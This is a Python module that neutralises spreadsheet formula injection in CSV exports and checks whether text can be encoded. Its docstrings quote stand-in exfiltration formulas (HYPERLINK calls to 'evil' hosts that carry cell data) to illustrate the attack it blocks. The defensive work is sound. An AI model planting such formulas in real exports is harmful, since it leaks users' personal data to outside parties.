r"""Cells of exported text: formula neutralisation and encodability, for every text exporter.

**Formula injection** (F13 of the 2026-11 red-team report; OWASP "CSV
Injection"): a spreadsheet program that opens a CSV file runs a cell starting
with ``=``, ``+``, ``-`` or ``@`` as a formula (and tab or carriage return can
hide such a start), and a formula such as ``=HYPERLINK("http://evil/?"&A3)``
can send other cells, personal data, elsewhere. :func:`neutralise_formula`
puts a ``'`` before such a cell, which spreadsheets show as text.

The rule, precisely:

- Only **text** is neutralised: a column whose type in the data model is
  text (ids, names, tasks, districts, reasons; see :func:`text_columns`).
  Numbers and dates are never touched, so an extent ``-0.5``, a year or an
  ISO date stay usable as numbers and dates.
- A text cell is neutralised when, after any run of leading ``'``, its first
  character is ``=``, ``+``, ``-``, ``@``, a tab or a carriage return. The
  leading ``'`` run is included so that the mapping can be undone exactly:
  ``=1+1`` becomes ``'=1+1``, and a value that really was ``'=1+1`` becomes
  ``''=1+1``. :func:`restore_formula` is the inverse.
- Any other cell is written as it is.

**Encodability** (F23): :func:`first_unencodable` finds the first character
an encoding cannot hold (a lone surrogate from a JSON ``\ud800`` escape, or
a character outside cp1252), so an exporter can refuse the value with its
table, row and column before anything is written.
"""

from __future__ import annotations

import datetime as dt
import enum
import functools
import typing
from collections.abc import Iterable, Mapping
from typing import Any

__all__ = [
    "FORMULA_STARTS",
    "first_unencodable",
    "neutralise_formula",
    "neutralised_row",
    "restore_formula",
    "text_columns",
]

FORMULA_STARTS = frozenset("=+-@\t\r")
"""The first characters that make a spreadsheet run a cell as a formula (OWASP)."""


def neutralise_formula(text: str) -> str:
    """*text*, with a ``'`` before it if a spreadsheet would run it as a formula.

    Apply it to text cells only, never to numbers or dates.

    Example:
        >>> from socforst.sources.cells import neutralise_formula
        >>> print(neutralise_formula('=HYPERLINK("http://evil.example/?"&A3)'))
        '=HYPERLINK("http://evil.example/?"&A3)
        >>> neutralise_formula("Farsta"), neutralise_formula("'=1")
        ('Farsta', "''=1")
    """
    stripped = text.lstrip("'")
    if stripped[:1] in FORMULA_STARTS and stripped:
        return "'" + text
    return text


def restore_formula(text: str) -> str:
    """The inverse of :func:`neutralise_formula`: one ``'`` less before a formula start.

    Example:
        >>> from socforst.sources.cells import restore_formula
        >>> restore_formula("'=1+1"), restore_formula("''=1"), restore_formula("'quoted'")
        ('=1+1', "'=1", "'quoted'")
    """
    stripped = text.lstrip("'")
    if text.startswith("'") and stripped[:1] in FORMULA_STARTS and stripped:
        return text[1:]
    return text


_NOT_TEXT = (bool, int, float, dt.date, dt.datetime, dt.time, dt.timedelta, enum.Enum)


def text_columns(kind: type) -> frozenset[str]:
    """The columns of a record type (attrs class or named tuple) that hold text.

    A column is text when its annotated type is ``str`` or a collection of
    ``str``, optional or not. Numbers, dates, times and enums (socforst's own
    code words, which never start with a formula character) are not.

    Example:
        >>> from socforst.sources.cells import text_columns
        >>> from socforst import Assignment
        >>> sorted(text_columns(Assignment))
        ['assignment_id', 'district', 'member_id', 'request_id', 'task']
    """
    return _text_columns(kind)


@functools.cache
def _text_columns(kind: Any) -> frozenset[str]:
    hints = typing.get_type_hints(kind)
    return frozenset(name for name, hint in hints.items() if _holds_text(hint))


def _holds_text(hint: Any) -> bool:
    if hint is str:
        return True
    if isinstance(hint, type):
        return issubclass(hint, str) and not issubclass(hint, _NOT_TEXT)
    arguments = [a for a in typing.get_args(hint) if a is not type(None)]
    return any(_holds_text(argument) for argument in arguments)


def neutralised_row(row: Mapping[str, str], columns: Iterable[str]) -> dict[str, str]:
    """*row* with :func:`neutralise_formula` applied to the cells of *columns*."""
    names = frozenset(columns)
    return {
        name: neutralise_formula(value) if name in names else value for name, value in row.items()
    }


def first_unencodable(text: str, encoding: str) -> int | None:
    r"""The position of the first character of *text* that *encoding* cannot hold, or ``None``.

    Lone surrogates (``"\ud800"``) are never encodable in a UTF encoding.

    Example:
        >>> from socforst.sources.cells import first_unencodable
        >>> first_unencodable("Anna\ud800", "utf-8"), first_unencodable("Åsa", "cp1252")
        (4, None)
    """
    try:
        text.encode(encoding)
    except UnicodeEncodeError as error:
        return error.start
    return None
